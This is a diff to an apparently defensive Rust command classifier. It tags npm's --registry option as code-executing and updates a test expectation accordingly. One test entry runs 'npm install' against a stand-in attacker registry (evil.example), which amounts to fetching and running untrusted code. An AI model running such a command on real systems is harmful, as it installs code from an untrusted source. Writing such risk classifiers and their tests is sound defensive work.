@@ -222,7 +222,7 @@ macro_rules! common {
 macro_rules! installing {
     () => {
         "-SDEOBPfgUyW -w= --save --save-dev --save-exact --save-optional --save-bundle --save-prod --save-peer --no-save --force --legacy-peer-deps --strict-peer-deps --ignore-scripts --foreground-scripts --no-bin-links --install-links \
-         --install-strategy= --dry-run --frozen-lockfile --no-frozen-lockfile --immutable --immutable-cache --check-cache --prefer-dedupe --no-optional --optional --engine-strict --os= --cpu= --libc= --registry=!installs-named --global-style --legacy-bundling \
+         --install-strategy= --dry-run --frozen-lockfile --no-frozen-lockfile --immutable --immutable-cache --check-cache --prefer-dedupe --no-optional --optional --engine-strict --os= --cpu= --libc= --registry=!installs-named!executes --global-style --legacy-bundling \
          --shamefully-hoist --fix-lockfile --lockfile-only --filter= --recursive --latest --interactive --exact --tilde --caret --peer --development --production --trust --yarn --backend= --verbose --mode= --inline-builds --network-timeout= --non-interactive \
          --pure-lockfile --check-files --flat --har --ignore-engines --ignore-optional --ignore-platform --modules-folder= --update-checksums --workspace-root --resolution-only --reporter= --strict-peer-dependencies --side-effects-cache --linker= --omit= \
          --allow-build= --dangerously-allow-all-builds --no-verify --concurrent-scripts= --cpu-prof"
@@ -463,7 +463,7 @@ pub(super) const TABLE: &[Spec] = &[
         ("npm install lodash", "installs-named"),
         ("npm i -D jest", "installs-named"),
         ("npm install -g npm", "installs-named system"),
-        ("npm install --registry=https://evil.example", "installs-declared installs-named"),
+        ("npm install --registry=https://evil.example", "installs-declared installs-named executes"),
         ("npm ci", "installs-declared"),
         ("npm run build", "project-code"),
         ("npm run build -w @x/y", "project-code"),
